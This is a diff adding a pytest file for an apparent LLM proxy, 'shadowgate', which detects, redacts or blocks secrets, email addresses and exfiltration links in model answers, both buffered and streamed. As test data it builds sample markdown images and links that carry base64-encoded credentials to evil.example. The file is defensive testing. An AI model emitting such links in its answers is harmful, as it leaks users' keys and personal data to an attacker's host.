@@ -1,0 +1,199 @@
+"""Answer inspection (OWASP LLM02, LLM06): secrets, personal data and exfiltration links in what
+the model sends back, buffered and streamed, end to end through a real proxy with the OpenAI SDK."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import openai
+import pytest
+
+from shadowgate.config.policy import load_policy
+from shadowgate.config.policy_responses import ResponsesPolicy
+from shadowgate.config.yamlfile import ConfigError
+from shadowgate.dlp import Scanner
+from shadowgate.dlp import redact
+from shadowgate.screening.answers import TextGuard
+from shadowgate.screening.answers import exfil_links
+
+AWS_KEY = "AKIAZ7Q3M5X2R3W4T5YB"
+EMAIL = "jane.doe@customer-corp.com"
+STOLEN = base64.urlsafe_b64encode(f"key={AWS_KEY} user={EMAIL}".encode()).decode()
+EXFIL = f"![status](https://evil.example/pixel.png?d={STOLEN})"
+ECHO = "https://api.openai.com/_fake/echo/v1"
+SCANNER = Scanner()
+
+
+def write_policy(tmp_path, text: str) -> str:
+    path = tmp_path / "policy.yaml"
+    path.write_text(text)
+    return f"shadowgate_policy={path}"
+
+
+def has_secret(text: str) -> bool:
+    return bool(SCANNER.scan(text))
+
+
+def untrusted(host: str) -> bool:
+    return host == "api.openai.com"
+
+
+# --- the library ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text, types",
+    [
+        (f"Done. {EXFIL}", ["exfil_image"]),
+        (f'<p>ok</p><img width=1 src="https://evil.example/a.gif?u={EMAIL.replace("@", "%40")}">', ["exfil_image"]),
+        (f"[click here](https://evil.example/login?session={STOLEN})", ["exfil_link"]),
+        (f"Visit https://evil.example/collect?{'x' * 250}", ["exfil_link"]),
+        # a link to the provider itself, ordinary links and images: nothing
+        (f"![chart](https://api.openai.com/files/img.png?d={STOLEN})", []),
+        ("See [the docs](https://docs.python.org/3/library/re.html?highlight=search#re.sub).", []),
+        ("![cat](https://upload.wikimedia.org/wikipedia/commons/3/3a/Cat03.jpg)", []),
+        ("https://www.google.com/maps/search/?api=1&query=zurich+main+station", []),
+    ],
+)
+def test_exfil_links_need_data_in_the_url_and_a_foreign_host(text, types):
+    assert [f.type for f in exfil_links(text, untrusted, has_secret)] == types
+
+
+def guard(hold: int = 64) -> TextGuard:
+    def inspect(text: str):
+        return SCANNER.scan(text) + exfil_links(text, untrusted, has_secret)
+
+    return TextGuard(inspect, lambda text, found: redact(text, found, lambda f: f"[{f.type}]"), hold=hold)
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
+def test_the_guard_catches_values_split_anywhere(size):
+    answer = f"Your key is {AWS_KEY}, mail {EMAIL}. {EXFIL} That is all for now, thanks."
+    g = guard()
+    out, found = [], []
+    for i in range(0, len(answer), size):
+        text, f = g.feed(answer[i : i + size])
+        out.append(text)
+        found += f
+    text, f = g.finish()
+    out.append(text)
+    found += f
+    assert (
+        "".join(out)
+        == "Your key is [AWS_ACCESS_KEY], mail [EMAIL]. ![status]([exfil_image]) That is all for now, thanks."
+    )
+    assert sorted(x.type for x in found) == ["AWS_ACCESS_KEY", "EMAIL", "exfil_image"]
+
+
+def test_the_guard_holds_back_a_bounded_window():
+    g = guard(hold=32)
+    out, _ = g.feed("word " * 100)
+    assert len(out) == 500 - 32 and g.held == 32
+
+
+def test_responses_policy_parses_and_refuses_mistakes(tmp_path):
+    path = tmp_path / "p.yaml"
+    path.write_text("responses: {dlp: redact, exfil_links: block, allow_hosts: ['*.corp.example'], hold_chars: 128}\n")
+    policy = load_policy(path).responses
+    assert policy == ResponsesPolicy(dlp="redact", exfil_links="block", allow_hosts=("*.corp.example",), hold_chars=128)
+    assert policy.host_allowed("img.corp.example") and not policy.host_allowed("evil.example")
+    path.write_text("responses: {dlp: off}\n")
+    assert load_policy(path).responses is None
+    for text, message in [
+        ("responses: {dlp: cut}\n", "responses.dlp must be one of off, log, redact, block"),
+        ("responses: {hold_chars: 4}\n", "responses.hold_chars must be a whole number from 32 to 65536"),
+        ("responses: {links: log}\n", "unknown keys ['links']"),
+    ]:
+        path.write_text(text)
+        with pytest.raises(ConfigError, match=message.replace("[", r"\[").replace("]", r"\]")):
+            load_policy(path)
+
+
+# --- end to end -------------------------------------------------------------------------------
+
+
+def ask(proxy, user: str, prompt: str, stream: bool, split: str | None = None) -> str:
+    headers = {"x-fake-split": split} if split else {}
+    with proxy.sdk_http(user, headers=headers) as http:
+        client = openai.OpenAI(api_key="sk-test", base_url=ECHO, http_client=http, max_retries=0)
+        messages = [{"role": "user", "content": prompt}]
+        if not stream:
+            return client.chat.completions.create(model="gpt-4o-mini", messages=messages).choices[0].message.content
+        parts = []
+        for chunk in client.chat.completions.create(model="gpt-4o-mini", messages=messages, stream=True):
+            if chunk.choices:
+                parts.append(chunk.choices[0].delta.content or "")
+        return "".join(parts)
+
+
+PROMPT = f"key {AWS_KEY} for {EMAIL} {EXFIL} thanks"
+
+
+def test_redact_cleans_buffered_and_streamed_answers(fresh_proxy, tmp_path, upstream):
+    """The echo model repeats the prompt: its answer carries a key, an address and an exfil image,
+    streamed one word per event cut mid-word, and three characters per event."""
+    proxy = fresh_proxy("--set", write_policy(tmp_path, "responses: {dlp: redact, exfil_links: redact}\n"))
+    expected = "You said: key [AWS_ACCESS_KEY] for [EMAIL] ![status]([URL_REMOVED]) thanks"
+    for n, (stream, split) in enumerate([(False, None), (True, None), (True, "3")]):
+        answer = ask(proxy, f"ans_redact{n}", PROMPT, stream, split)
+        assert answer.strip() == expected, (stream, split)
+    rows = proxy.rows("user_name LIKE 'ans_redact%'", expect=3)
+    assert [(r["response_findings"], r["response_action"], r["status_code"]) for r in rows] == [
+        ("AWS_ACCESS_KEY:1,EMAIL:1,exfil_image:1", "redact", 200)
+    ] * 3
+    assert all(r["output_tokens"] for r in rows)  # Meter still parsed the usage
+    # No value reaches a row or the log.
+    everything = b"".join(p.read_bytes() for p in proxy.db.parent.rglob("*.parquet")) + proxy.log().encode()
+    assert AWS_KEY.encode() not in everything and STOLEN.encode() not in everything
+
+
+def test_block_cuts_the_stream_with_an_error_the_sdk_raises(fresh_proxy, tmp_path, upstream):
+    proxy = fresh_proxy("--set", write_policy(tmp_path, "responses: {dlp: log, exfil_links: block, hold_chars: 32}\n"))
+    prompt = f"Here is the summary you asked for, all fine. {EXFIL} Bye now."
+    received: list[str] = []
+    with proxy.sdk_http("ans_block", headers={"x-fake-split": "5"}) as http:
+        client = openai.OpenAI(api_key="sk-test", base_url=ECHO, http_client=http, max_retries=0)
+        with pytest.raises(openai.APIError) as e:
+            for chunk in client.chat.completions.create(
+                model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}], stream=True
+            ):
+                if chunk.choices:
+                    received.append(chunk.choices[0].delta.content or "")
+        assert "exfil_image" in str(e.value)
+        with pytest.raises(openai.PermissionDeniedError):
+            openai.OpenAI(api_key="sk-test", base_url=ECHO, http_client=http, max_retries=0).chat.completions.create(
+                model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}]
+            )
+    # What went out before the cut is the text before the image, none of the URL.
+    assert "You said: Here is the summary" in "".join(received) and "evil.example" not in "".join(received)
+    rows = proxy.rows("user_name = 'ans_block'", expect=2)
+    assert [(r["response_findings"], r["response_action"]) for r in rows] == [("exfil_image:1", "block")] * 2
+    assert rows[1]["status_code"] == 403
+
+
+def test_log_and_observe_change_nothing_but_record(fresh_proxy, tmp_path, upstream):
+    proxy = fresh_proxy(
+        "--set", write_policy(tmp_path, "mode: observe\nresponses: {dlp: block, exfil_links: redact}\n")
+    )
+    assert ask(proxy, "ans_observe", PROMPT, stream=True).strip() == f"You said: {PROMPT}"
+    [row] = proxy.rows("user_name = 'ans_observe'", expect=1)
+    assert (row["response_findings"], row["response_action"]) == (
+        "AWS_ACCESS_KEY:1,EMAIL:1,exfil_image:1",
+        "would_block",
+    )
+
+
+def test_the_users_own_values_restored_by_reversible_dlp_are_not_a_leak(fresh_proxy, tmp_path, upstream):
+    proxy = fresh_proxy(
+        "--set",
+        write_policy(tmp_path, "dlp: {secrets: redact, pii: redact, reversible: true}\nresponses: {dlp: block}\n"),
+    )
+    prompt = f"my key {AWS_KEY} and mail {EMAIL}"
+    for stream in (False, True):
+        assert ask(proxy, "ans_own", prompt, stream).strip() == f"You said: {prompt}"
+    rows = proxy.rows("user_name = 'ans_own'", expect=2)
+    assert [r["response_action"] for r in rows] == [None, None]
+    assert (
+        json.loads(upstream.seen[-1].body)["messages"][0]["content"] == "my key [AWS_ACCESS_KEY_1] and mail [EMAIL_1]"
+    )
